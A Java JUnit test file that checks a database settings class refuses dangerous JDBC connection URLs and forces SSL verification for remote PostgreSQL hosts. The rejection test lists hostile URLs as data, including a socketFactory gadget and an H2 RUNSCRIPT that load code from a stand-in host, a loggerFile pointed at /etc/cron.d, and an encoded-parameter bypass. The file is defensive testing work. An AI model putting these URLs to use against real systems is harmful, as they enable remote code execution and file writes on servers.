package io.sallyport.config.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Tag;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class StoreSettingsTest {

    @ParameterizedTest
    @Tag("V30")
    @ValueSource(
            strings = {
                "jdbc:postgresql://db/sallyport?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil.test/x.xml",
                "jdbc:postgresql://db/sallyport?sslmode=require&loggerFile=/etc/cron.d/x",
                "jdbc:postgresql://db/sallyport?sslfactory=evil.Factory",
                "jdbc:postgresql://db/sallyport?authenticationPluginClassName=evil.Plugin",
                "jdbc:postgresql://db/sallyport?%73ocketFactory=evil.Factory",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.test/x.sql'"
            })
    void urlThatLoadsOrWritesSomethingIsRefused(String url) {
        assertThatThrownBy(() -> new StoreSettings.Postgres(url, "", ""))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("expected");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db:5432/sallyport",
                "jdbc:postgresql://a,b/sallyport?sslmode=verify-full&sslrootcert=/ca.pem&targetServerType=primary",
                "jdbc:postgresql:sallyport?user=a&password=b"
            })
    void usualUrlIsTaken(String url) {
        assertThat(new StoreSettings.Postgres(url, "", "").toString()).doesNotContain(url);
    }

    @ParameterizedTest
    @Tag("V23")
    @CsvSource({
        "//db:5432/s, ?sslmode=verify-full&sslfactory=org.postgresql.ssl.DefaultJavaSSLFactory",
        "//db/s?user=a, &sslmode=verify-full&sslfactory=org.postgresql.ssl.DefaultJavaSSLFactory",
        "//db/s?sslrootcert=/ca.pem, &sslmode=verify-full",
        "'//localhost,db/s', ?sslmode=verify-full&sslfactory=org.postgresql.ssl.DefaultJavaSSLFactory",
        "//localhost.evil.test/s, ?sslmode=verify-full&sslfactory=org.postgresql.ssl.DefaultJavaSSLFactory",
        "//db/s?sslmode=disable, ''",
        "//db/s?ssl=true, ''",
        "//127.0.0.1:5432/s, ''",
        "//localhost/s, ''",
        "//[::1]:5432/s, ''",
        "s, ''"
    })
    void aDatabaseElsewhereIsVerifiedUnlessTheUrlSaysOtherwise(String place, String added) {
        var url = "jdbc:postgresql:" + place;

        assertThat(new StoreSettings.Postgres(url, "", "").verified()).isEqualTo(url + added);
    }
}
